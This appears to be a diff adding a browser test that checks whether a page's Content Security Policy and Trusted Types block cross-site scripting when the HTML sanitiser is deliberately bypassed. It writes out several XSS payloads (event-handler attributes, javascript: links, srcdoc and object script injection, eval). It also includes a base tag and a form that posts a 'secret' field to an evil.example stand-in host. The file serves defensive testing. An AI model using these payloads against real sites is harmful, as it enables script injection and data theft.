@@ -1,0 +1,79 @@
+// Defence in depth, tested: this page runs the real HTML sink (www/js/html-sink.js)
+// under the page's real CSP, but in a test build whose sanitiser lets every
+// payload through (the test serves a core.js whose sanitizeNow returns its
+// input). Each attempt below is something the sanitiser should have stopped;
+// the CSP and Trusted Types must stop it instead, and report a violation.
+import { loadCore } from '/www/js/core.js';
+import { setArticleHtml } from '/www/js/html-sink.js';
+
+window.__ran = [];
+window.__violations = [];
+document.addEventListener('securitypolicyviolation', (event) => {
+  window.__violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI, sample: event.sample });
+});
+
+const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+const attempts = {};
+/** A fresh container per attempt, so that each payload stays in the page. */
+function container() {
+  const element = document.createElement('div');
+  document.getElementById('article-body').append(element);
+  return element;
+}
+
+async function attempt(name, run) {
+  try {
+    await run();
+    attempts[name] = 'no error';
+  } catch (error) {
+    attempts[name] = `${error.name}: ${error.message}`;
+  }
+}
+
+await loadCore();
+
+// Through the one sink, with the sanitiser bypassed: the markup really lands.
+await attempt('inline handlers', () => {
+  setArticleHtml(container(), '<img id="slipped" src="/nonexistent.png" onerror="window.__ran.push(\'img onerror\'); alert(1)">'
+    + '<svg><animate onbegin="window.__ran.push(\'svg onbegin\')" attributeName="x" dur="1s"></animate></svg>'
+    + '<p onmouseover="window.__ran.push(\'onmouseover\')" id="hover">hover</p>');
+});
+await attempt('javascript: link', async () => {
+  setArticleHtml(container(), '<a id="js-link" href="javascript:window.__ran.push(\'javascript: link\')">x</a>');
+  document.getElementById('js-link').click();
+});
+await attempt('base element', () => setArticleHtml(container(), '<base href="https://evil.example/">'));
+await attempt('form to elsewhere', () => {
+  // Submitted into a frame of the test's own, so that without a CSP the page stays.
+  const frame = document.createElement('iframe');
+  frame.name = 'sink';
+  document.body.append(frame);
+  setArticleHtml(container(), '<form id="f" target="sink" action="https://evil.example/steal"><input name="q" value="secret"></form>');
+  document.getElementById('f').requestSubmit();
+});
+await attempt('plugin object', () => setArticleHtml(container(), '<object data="data:text/html,<script>parent.__ran.push(\'object\')</script>"></object>'));
+await attempt('inline style', () => setArticleHtml(container(), '<style>body{background:red}</style><p style="color:red">styled</p>'));
+await attempt('srcdoc frame', () => setArticleHtml(container(), '<iframe srcdoc="<script>parent.__ran.push(\'srcdoc\')</script>"></iframe>'));
+
+// Around the sink: no string reaches an HTML sink without the one policy.
+await attempt('raw innerHTML', () => { document.getElementById('raw').innerHTML = '<img src=/x onerror="window.__ran.push(\'raw\')">'; });
+await attempt('insertAdjacentHTML', () => document.getElementById('raw').insertAdjacentHTML('beforeend', '<b>x</b>'));
+await attempt('a second policy', () => trustedTypes.createPolicy('bypass', { createHTML: (s) => s }));
+await attempt('eval', () => window.eval('window.__ran.push("eval")'));
+await attempt('Function', () => new Function('window.__ran.push("Function")')());
+await attempt('handler by setAttribute', () => document.getElementById('raw').setAttribute('onclick', 'window.__ran.push("setAttribute")'));
+await attempt('script element', () => {
+  const script = document.createElement('script');
+  script.textContent = 'window.__ran.push("script element")';
+  document.body.append(script);
+});
+
+// Let blocked loads and events happen.
+document.getElementById('hover')?.dispatchEvent(new MouseEvent('mouseover'));
+await wait(1000);
+
+window.__result = {
+  attempts,
+  slippedThrough: document.getElementById('slipped')?.getAttribute('onerror') ?? null,
+  baseURI: document.baseURI,
+};
